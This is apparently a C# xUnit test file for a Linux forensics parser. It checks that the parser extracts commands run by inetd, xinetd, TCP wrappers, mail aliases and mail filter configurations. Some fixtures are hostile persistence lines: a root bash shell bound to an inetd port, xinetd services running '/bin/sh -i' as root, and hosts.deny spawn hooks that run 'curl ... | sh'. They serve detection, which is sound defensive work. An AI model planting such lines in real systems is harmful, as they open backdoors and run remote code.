using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux.Programs;

public sealed class ServerAndMailTests
{
    [Fact]
    public void Inetd_lines_name_service_account_and_program()
    {
        InetdService[] services = [.. ArtifactRun.Parse(new InetdParser(), "/etc/inetd.conf", "# comment\ndaytime stream tcp nowait root internal\n5002 stream tcp nowait root /bin/bash bash -i\ntftp dgram udp wait nobody.tty /usr/sbin/tcpd in.tftpd /srv\n#<off># x stream tcp nowait root /bin/x x\n").Of<InetdService>()];
        Assert.Equal(["5002|root|/bin/bash -i|3", "tftp|nobody|/usr/sbin/in.tftpd /srv|4"], services.Select(service => $"{service.Service}|{service.User}|{service.Command}|{service.Location.Line}"));
    }

    [Theory]
    [InlineData("a", "service x\n{\n server = /bin/sh\n server_args = -i\n user = root\n port = 9\n disable = no\n}\n", "x 9|/bin/sh -i|root|")]
    [InlineData("a", "service x\n{\n disable = yes\n server += /bin/sh\n}\n", "x|/bin/sh||disable = yes")]
    [InlineData("a.bak", "service x {\n server = /bin/sh\n}\n", "x|/bin/sh||xinetd ignores files with a dot or a tilde at the end in their name")]
    [InlineData("a", "service x\n{\n flags = NAMEINARGS\n server = /usr/sbin/tcpd\n server_args = /usr/sbin/in.x -l\n}\n", "x|/usr/sbin/in.x -l||")]
    [InlineData("a", "defaults\n{\n disabled = y x\n}\nservice x\n{\n server = /x\n}\n", "x|/x||the defaults disable it")]
    [InlineData("a", "service x\n{\n server = /x\n", "x|/x||xinetd drops a service without a closing brace")]
    [InlineData("a", "service x\n{\n type = INTERNAL\n}\n", null)]
    public void Xinetd_services(string name, string text, string? expected) =>
        Assert.Equal(expected is null ? [] : [expected], ArtifactRun.Parse(new XinetdParser(), "/etc/xinetd.d/" + name, text).Of<InetdService>().Select(service => $"{service.Service}|{service.Command}|{service.User}|{service.DormantBecause}"));

    [Theory]
    [InlineData("ALL: ALL: spawn (/bin/x -h %h) &: deny\n", "hosts.deny spawn|ALL : ALL|(/bin/x -h %h) &")]
    [InlineData("sshd: [2001:db8::]/32: twist /bin/echo no\n", "hosts.deny twist|sshd : [2001:db8::]/32|/bin/echo no")]
    [InlineData("sshd: ALL: spawn (curl http\\://x/y | sh)\n", "hosts.deny spawn|sshd : ALL|(curl http://x/y | sh)")]
    [InlineData("sshd: ALL: spawn (curl http://x/y | sh)\n", "hosts.deny spawn|sshd : ALL|(curl http://x/y | sh)")]
    [InlineData("in.tftpd: ALL: (/usr/sbin/safe_finger -l @%h | /usr/bin/mail -s %d-%h root) &\n", "hosts.deny command|in.tftpd : ALL|(/usr/sbin/safe_finger -l @%h | /usr/bin/mail -s %d-%h root) &")]
    [InlineData("ALL: \\\n 192.0.2.1 \\\n : spawn /x\n", "hosts.deny spawn|ALL : 192.0.2.1|/x")]
    [InlineData("ALL: PARANOID\n# ALL: ALL: spawn x\nsshd: ALL: allow\n")]
    public void Tcp_wrappers_run_commands(string text, params string[] expected) => Assert.Equal(expected, ArtifactRun.Parse(new TcpWrappersParser(), "/etc/hosts.deny", text).Of<HookCommand>().Select(hook => $"{hook.Trigger}|{hook.Subject}|{hook.Command}"));

    [Theory]
    [InlineData("/etc/aliases", "root: alice\nlist: \"|/usr/bin/x post a\", bob\nx:\t|/bin/y\nz: a,\n  \"|/bin/c d\"\n\"q w\": |\"/bin/e f\"\n", "mail alias|list|/usr/bin/x post a", "mail alias|x|/bin/y", "mail alias|z|/bin/c d", "mail alias|q w|/bin/e f")]
    [InlineData("/home/alice/.forward", "\\alice, \"|/usr/bin/vacation alice\"\n", ".forward||/usr/bin/vacation alice")]
    [InlineData("/home/alice/.qmail", "|preline procmail\n./Maildir/\n", ".qmail||preline procmail")]
    [InlineData("/etc/aliases", "# a: |/bin/x\nbob: alice@example.net\n")]
    public void Mail_goes_to_programs(string path, string text, params string[] expected) => Assert.Equal(expected, ArtifactRun.Parse(new MailAliasParser(), path, text).Of<HookCommand>().Select(hook => $"{hook.Trigger}|{hook.Subject}|{hook.Command}"));

    [Fact]
    public void An_included_list_is_a_file() => Assert.Equal(["/var/lists/a"], ArtifactRun.Parse(new MailAliasParser(), "/etc/aliases", "a: :include:/var/lists/a\n").Of<HookFile>().Select(file => file.Target));

    [Theory]
    [InlineData("/home/u/.procmailrc", ":0fw: lock\n* < 1000\n| /usr/bin/spamc -u x\n:0\n* ? /bin/test\n{\n}\n:0:\nmail/\nA=`/bin/date`\n# | /no\n", "procmail recipe|/usr/bin/spamc -u x", "procmail condition|/bin/test", "procmail backticks|/bin/date")]
    [InlineData("/home/u/.mailfilter", "to \"| /usr/bin/x -a\"\n", "maildrop|/usr/bin/x -a")]
    [InlineData("/home/u/.dovecot.sieve", "if true {\n  pipe :copy \"x.sh\" [\"a\"];\n}\n", "sieve pipe|x.sh")]
    [InlineData("/home/u/.fetchmailrc", "poll a with proto IMAP\n mda \"/usr/bin/procmail -d %T\"\n", "fetchmail mda|/usr/bin/procmail -d %T")]
    [InlineData("/etc/postfix/master.cf", "smtp inet n - y - - smtpd\nmd unix - n n - - pipe\n  flags=R user=v argv=/usr/bin/maildrop -d ${recipient}\n", "postfix md|/usr/bin/maildrop -d ${recipient}")]
    [InlineData("/etc/postfix/main.cf", "mailbox_command = procmail -a\nmyhostname = a\n", "postfix mailbox_command|procmail -a")]
    [InlineData("/etc/exim4/exim4.conf", "pipe_x:\n  driver = pipe\n  command = \"/usr/bin/x $local_part\"\n  debug_print = \"T: command for a\"\n", "exim command|/usr/bin/x $local_part")]
    public void Filters_and_servers_name_programs(string path, string text, params string[] expected) => Assert.Equal(expected, ArtifactRun.Parse(new MailFilterParser(), path, text).Of<HookCommand>().Select(hook => $"{hook.Trigger}|{hook.Command}"));

    [Fact]
    public void Hostile_input_is_bounded()
    {
        foreach ((ArtifactParser parser, string path, string line) in new (ArtifactParser, string, string)[]
        {
            (new InetdParser(), "/etc/inetd.conf", "a b c d e f\n"), (new XinetdParser(), "/etc/xinetd.d/a", "service a\n{\nserver = x\n}\n"), (new TcpWrappersParser(), "/etc/hosts.allow", "a:b:spawn (:c\n"),
            (new MailAliasParser(), "/etc/aliases", "a: |b,\n c,\n"), (new MailFilterParser(), "/home/u/.procmailrc", ":0\n| x\n"), (new MailFilterParser(), "/etc/postfix/master.cf", " argv=x\n"),
        })
        {
            ArtifactRun.SurvivesHostileSizes(parser, path, line);
            ArtifactRun.SurvivesGarbage(parser, path, line);
        }
    }
}
